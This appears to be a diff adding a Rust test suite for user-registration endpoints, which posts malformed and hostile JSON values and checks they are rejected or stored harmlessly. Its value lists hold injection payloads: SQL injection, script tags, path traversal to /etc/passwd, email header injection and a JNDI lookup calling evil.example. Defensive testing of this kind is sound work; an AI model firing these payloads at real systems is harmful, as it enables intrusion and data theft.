@@ -1,0 +1,119 @@
+//! Well-formed bodies with values that nobody means, in each field of each endpoint.
+
+use serde_json::Value;
+
+use super::{JSON, Target, assert_refused, honest};
+
+/// Values no field takes, as they are written in JSON.
+fn values() -> Vec<String> {
+    let long = "x".repeat(60_000);
+    [
+        "null",
+        "true",
+        "[]",
+        "{}",
+        "[\"ann\"]",
+        "{\"$ne\":null}",
+        "\"\"",
+        "\" \\t\\n\\u3000 \"",
+        "\"\\u0000\"",
+        "\"a\\u0000b\"",
+        "\"\\ud800\"",
+        "\"\\udfff\\ud800\"",
+        "\"a\\r\\nBcc: mallory@evil.example\"",
+        "\"' OR 1=1 --\"",
+        "\"'; DROP TABLE users; --\"",
+        "\"<script>alert(1)</script>\"",
+        "\"../../../etc/passwd\"",
+        "\"{{verification_url}}\"",
+        "\"${jndi:ldap://evil.example/a}\"",
+        "\"\\u202e\\u200b\\ufeff\"",
+        "\"🏴‍☠️\"",
+        "\"@\"",
+        "\"NaN\"",
+        "\"1e400\"",
+        "\"-\"",
+        "1e400",
+        "-1e400",
+        "1.5",
+        "1e-7",
+    ]
+    .map(str::to_owned)
+    .into_iter()
+    .chain([
+        format!("\"{long}\""),
+        format!("\"{}\"", "ﷺ".repeat(20_000)),
+        format!("[{}1]", "1,".repeat(30_000)),
+        "9".repeat(60_000),
+    ])
+    .collect()
+}
+
+/// Whether this endpoint may take such a value: names of people are free text, and so is a password.
+fn is_harmless(field: &str, value: &str) -> bool {
+    let is_text_or_number = !["null", "true", "[]", "{}", "["].contains(&value) && !value.starts_with(['[', '{']);
+    match field {
+        "first_name" | "last_name" | "password" | "password_confirm" => is_text_or_number,
+        "username" => ["1e400", "-1e400", "1.5", "1e-7", "\"NaN\"", "\"1e400\"", "\"@\"", "\"-\""].contains(&value),
+        _ => false,
+    }
+}
+
+#[tokio::test]
+async fn no_value_does_harm() {
+    let target = Target::start().await;
+    let mut tried = 0;
+    for path in ["register/", "verify-registration/", "resend-verification/"] {
+        let Value::Object(members) = honest(path) else { panic!("an object") };
+        for field in members.keys() {
+            for value in values().into_iter().filter(|value| !is_harmless(field, value)) {
+                let mut body = members.clone();
+                body.remove(field);
+                let body = Value::Object(body).to_string().replacen('{', &format!("{{\"{field}\":{value},"), 1);
+                let body = body.replace(",}", "}");
+                let answer = target.app.post_bytes(path, JSON, body).await;
+                let shown: String = value.chars().take(40).collect();
+                assert_refused(&answer, 400, &format!("{field}: {shown} to {path}"));
+                tried += 1;
+            }
+        }
+    }
+    assert!(tried > 150, "{tried}");
+    target.is_unharmed().await;
+}
+
+#[tokio::test]
+async fn a_name_may_be_any_text_and_is_stored_as_it_is() {
+    let target = Target::start().await;
+    for (number, name) in [
+        "'; DROP TABLE users; --",
+        "<script>alert(1)</script>",
+        "Ann\r\nBcc: x@evil.example",
+        "{{user}}",
+        "🏴‍☠️",
+        "\u{202e}nna",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let other = serde_json::json!({ "first_name": name, "last_name": name });
+        let profile = target.app.register(&format!("user{number}"), other).await.expect(201);
+        assert_eq!((&profile["first_name"], &profile["last_name"]), (&name.into(), &name.into()));
+        let user = target.app.user(profile["id"].as_str().expect("an id")).await;
+        assert_eq!(user.first_name, name);
+    }
+    target.app.get("/readyz").await.expect(200);
+}
+
+#[tokio::test]
+async fn of_a_member_sent_twice_the_last_is_judged() {
+    let target = Target::start().await;
+    for (body, messages) in [
+        (r#"{"email":"ann@mail.example","email":null}"#, "This field may not be null."),
+        (r#"{"email":"ann@mail.example","\u0065mail":[]}"#, "Enter a valid email address."),
+    ] {
+        let answer = target.app.post_bytes("resend-verification/", JSON, body).await.expect(400);
+        assert_eq!(answer, serde_json::json!({ "email": [messages] }));
+    }
+    target.is_unharmed().await;
+}
